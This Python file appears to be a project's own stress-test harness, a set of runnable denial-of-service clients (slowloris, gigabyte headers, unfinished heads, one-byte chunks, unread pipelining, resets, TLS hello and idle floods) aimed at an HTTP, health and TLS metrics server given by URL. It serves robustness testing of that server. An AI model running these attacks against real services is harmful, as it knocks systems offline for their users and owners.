"""Bad clients, each a coroutine against one address; run as a process of its own beside what it attacks.

    python proof/bench/attackers.py NAME URL

Every one has a bounded number of connections. Those marked as found were found by `proof/fuzz/cost.py`, or are what
it made of them.
"""

import asyncio
import contextlib
import os
import random
import socket
import ssl
import struct
import sys
from collections.abc import Awaitable, Callable, Iterable
from dataclasses import dataclass
from urllib.parse import urlsplit

import uvloop
from serving import raise_open_files

_RESET = struct.pack("ii", 1, 0)
GET = b"GET /metrics HTTP/1.1\r\nHost: bench\r\n\r\n"
START = b"GET / HTTP/1.1\r\nHost: x\r\n"
MANY = START + b"".join(b"%x:z\r\n" % number for number in range(2500))
HUNDRED = START + b"".join(b"h%02d: %0140d\r\n" % (number, number) for number in range(99)) + b"\r\n"
NEWLINES = (
    b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n3e80\r\n"
    + b"\n" * 16000
    + b"\r\n0\r\n\r\n"
)
SMALL_CHUNKS = (
    b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" + b"1\r\n\n\r\n" * 2600 + b"0\r\n\r\n"
)
EMPTY_LINES = b"\r\n" * 8000
SMALL_REQUESTS = b"GET /x HTTP/1.1\nHost:\r\n\r\n".replace(b"1\n", b"1\r\n") * 160
COLLECTORS = ("children", "interface", "latency", "process", "sessions", "sockets", "scrape", "tunnel", "log")


class Attacker:
    """Connections to one address, and how many bytes were sent."""

    def __init__(self, url: str) -> None:
        parts = urlsplit(url)
        self.address = parts.hostname, parts.port
        self.open: list[socket.socket] = []
        self.sent = 0

    async def connect(self) -> socket.socket:
        """Open one more."""
        sock = socket.socket()
        sock.setblocking(False)  # noqa: FBT003
        with contextlib.suppress(OSError):
            await asyncio.get_running_loop().sock_connect(sock, self.address)
        self.open.append(sock)
        return sock

    async def send(self, sock: socket.socket, data: bytes) -> bool:
        """Send it all; False when the server has closed, or takes no more."""
        try:
            async with asyncio.timeout(1):
                await asyncio.get_running_loop().sock_sendall(sock, data)
        except (OSError, TimeoutError):
            return False
        self.sent += len(data)
        return True

    def close(self, sock: socket.socket) -> None:
        """Close it."""
        self.open.remove(sock)
        sock.close()

    async def hold(self, count: int, data: bytes) -> None:
        """Have so many connections that have sent this, and replace those that were closed."""
        while True:
            while len(self.open) < count:
                await self.send(await self.connect(), data)
            await asyncio.sleep(0.2)
            for sock in list(self.open):
                with contextlib.suppress(BlockingIOError):
                    if self._ended(sock):
                        self.close(sock)

    @staticmethod
    def _ended(sock: socket.socket) -> bool:
        try:
            return not sock.recv(1, socket.MSG_PEEK)
        except BlockingIOError:
            return False
        except OSError:
            return True

    async def repeat(self, data: bytes, at_once: int = 100) -> None:
        """Connect, send, read a little, close, again and again, from so many tasks."""

        async def one() -> None:
            while True:
                sock = await self.connect()
                await self.send(sock, data)
                with contextlib.suppress(OSError, TimeoutError):
                    async with asyncio.timeout(1):
                        await asyncio.get_running_loop().sock_recv(sock, 4096)
                self.close(sock)

        await asyncio.gather(*(one() for _ in range(at_once)))


async def slowloris(attacker: Attacker) -> None:
    """2,000 requests that trickle in, a byte every half second."""
    for _ in range(2000):
        await attacker.connect()
    for byte in iter(lambda: b"G", None):
        await asyncio.gather(*(attacker.send(sock, byte) for sock in attacker.open))
        await asyncio.sleep(0.5)


async def enormous(attacker: Attacker) -> None:
    """Heads of a gigabyte, eight at a time, again and again."""

    async def one() -> None:
        while True:
            sock = await attacker.connect()
            if await attacker.send(sock, b"GET / HTTP/1.1\r\nX: "):
                while await attacker.send(sock, bytes(1 << 20).replace(b"\0", b"x")):
                    pass
            attacker.close(sock)

    await asyncio.gather(*(one() for _ in range(8)))


async def pipelining(attacker: Attacker, data: bytes = GET * 1000) -> None:
    """A hundred clients that ask without end and read nothing."""

    async def one() -> None:
        while True:
            sock = await attacker.connect()
            while await attacker.send(sock, data):
                pass
            attacker.close(sock)

    await asyncio.gather(*(one() for _ in range(100)))


async def small_requests(attacker: Attacker) -> None:
    """The same with the smallest requests there are."""
    await pipelining(attacker, SMALL_REQUESTS)


async def resets(attacker: Attacker) -> None:
    """Clients that ask and reset the connection, as fast as one process can."""
    while True:
        sock = await attacker.connect()
        with contextlib.suppress(OSError):
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET)
        await attacker.send(sock, GET)
        attacker.close(sock)


async def half_closed(attacker: Attacker) -> None:
    """2,000 clients that ask, close their half, and never read."""
    for _ in range(2000):
        sock = await attacker.connect()
        await attacker.send(sock, GET)
        with contextlib.suppress(OSError):
            sock.shutdown(socket.SHUT_WR)
    await asyncio.Event().wait()


async def unread(attacker: Attacker) -> None:
    """2,000 clients, each of which asks for other series and reads nothing."""
    dice = random.Random(1)
    for _ in range(2000):
        wanted = "&".join(f"collect[]={name}" for name in COLLECTORS if dice.random() < 0.7)
        request = f"GET /metrics?{wanted} HTTP/1.1\r\nHost: x\r\nAccept-Encoding: gzip;q={dice.random():.3f}\r\n\r\n"
        await attacker.send(await attacker.connect(), request.encode() * 8)
    await asyncio.Event().wait()


async def garbage(attacker: Attacker) -> None:
    """Random bytes, connection after connection."""
    while True:
        sock = await attacker.connect()
        await attacker.send(sock, os.urandom(2000))
        attacker.close(sock)


async def silent(attacker: Attacker) -> None:
    """5,000 connections without a word."""
    for _ in range(5000):
        await attacker.connect()
    await asyncio.Event().wait()


async def unfinished_heads(attacker: Attacker) -> None:
    """3,000 heads of 2,500 headers, 16 kB each, without an end."""
    await attacker.hold(3000, MANY[: (16 << 10) - 100])


async def unfinished_hundred(attacker: Attacker) -> None:
    """3,000 heads of a hundred headers, 16 kB each, of which the last byte is missing."""
    await attacker.hold(3000, HUNDRED[:-1])


async def all_at_once(attacker: Attacker) -> None:
    """2,000 connections that send a head of a hundred headers in the same moment, again and again."""
    for _ in range(2000):
        await attacker.connect()
    while True:
        for sock in list(attacker.open):
            with contextlib.suppress(OSError):
                sock.send(HUNDRED)
                sock.recv(1 << 16)
        await asyncio.sleep(0.2)


async def newline_chunks(attacker: Attacker) -> None:
    """Chunked bodies of 16,000 newlines, 300 at a time."""
    await attacker.repeat(NEWLINES, 300)


async def small_chunks(attacker: Attacker) -> None:
    """Bodies in chunks of one byte."""
    await attacker.repeat(SMALL_CHUNKS)


async def many_headers(attacker: Attacker) -> None:
    """Heads of 2,500 headers."""
    await attacker.repeat(MANY + b"\r\n")


async def empty_lines(attacker: Attacker) -> None:
    """Empty lines before a request that never comes."""
    await attacker.repeat(EMPTY_LINES)


async def one_byte_packets(attacker: Attacker) -> None:
    """A hundred clients that send a head byte by byte, as fast as they can."""

    async def one() -> None:
        while True:
            sock = await attacker.connect()
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for at in range(len(HUNDRED)):
                if not await attacker.send(sock, HUNDRED[at : at + 1]):
                    break
            attacker.close(sock)

    await asyncio.gather(*(one() for _ in range(100)))


def greeting() -> bytes:
    """The first message of a TLS handshake."""
    context = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    return outgoing.read()


async def hellos(attacker: Attacker) -> None:
    """3,000 connections that begin a handshake and say no more."""
    await attacker.hold(3000, greeting())


async def handshakes(attacker: Attacker) -> None:
    """As many beginnings of handshakes as one process can send."""
    await attacker.repeat(greeting(), 200)


async def tls_idle(attacker: Attacker) -> None:
    """3,000 clients that shake hands and then do nothing."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    host, port = attacker.address
    kept = []
    while True:
        while len(kept) < 3000:
            with contextlib.suppress(OSError):
                kept.append(await asyncio.open_connection(host, port, ssl=context))
        await asyncio.sleep(0.2)
        kept = [pair for pair in kept if not pair[0].at_eof()]


async def long_lines(attacker: Attacker) -> None:
    """5,000 requests of 900 bytes without an end."""
    await attacker.hold(5000, b"GET /" + b"x" * 900)


@dataclass(frozen=True)
class Attack:
    """One line of the table.

    Attributes:
        name: As people call it.
        target: The port: `http`, `health`; `tls` is the metrics port with TLS.
        act: What the clients do.
    """

    name: str
    target: str
    act: Callable[[Attacker], Awaitable[None]]


ATTACKS: tuple[Attack, ...] = (
    Attack("slow requests", "http", slowloris),
    Attack("enormous heads", "http", enormous),
    Attack("unfinished heads, 2,500 headers", "http", unfinished_heads),
    Attack("unfinished heads, 100 headers", "http", unfinished_hundred),
    Attack("100 headers, all at once", "http", all_at_once),
    Attack("many headers", "http", many_headers),
    Attack("empty lines", "http", empty_lines),
    Attack("chunks of newlines", "http", newline_chunks),
    Attack("chunks of a byte", "http", small_chunks),
    Attack("packets of a byte", "http", one_byte_packets),
    Attack("pipelining, unread", "http", pipelining),
    Attack("pipelining, smallest", "http", small_requests),
    Attack("other series, unread", "http", unread),
    Attack("half closed, unread", "http", half_closed),
    Attack("resets", "http", resets),
    Attack("garbage", "http", garbage),
    Attack("silence", "http", silent),
    Attack("TLS: hello and no more", "tls", hellos),
    Attack("TLS: handshakes", "tls", handshakes),
    Attack("TLS: idle", "tls", tls_idle),
    Attack("TLS: garbage", "tls", garbage),
    Attack("health: silence", "health", silent),
    Attack("health: long lines", "health", long_lines),
    Attack("health: packets of a byte", "health", one_byte_packets),
    Attack("health: garbage", "health", garbage),
    Attack("health: resets", "health", resets),
)


def chosen(word: str) -> Iterable[Attack]:
    """The attacks that have a word in their names."""
    return [attack for attack in ATTACKS if word in attack.name]


if __name__ == "__main__":
    raise_open_files()
    uvloop.run(globals()[sys.argv[1]](Attacker(sys.argv[2])))
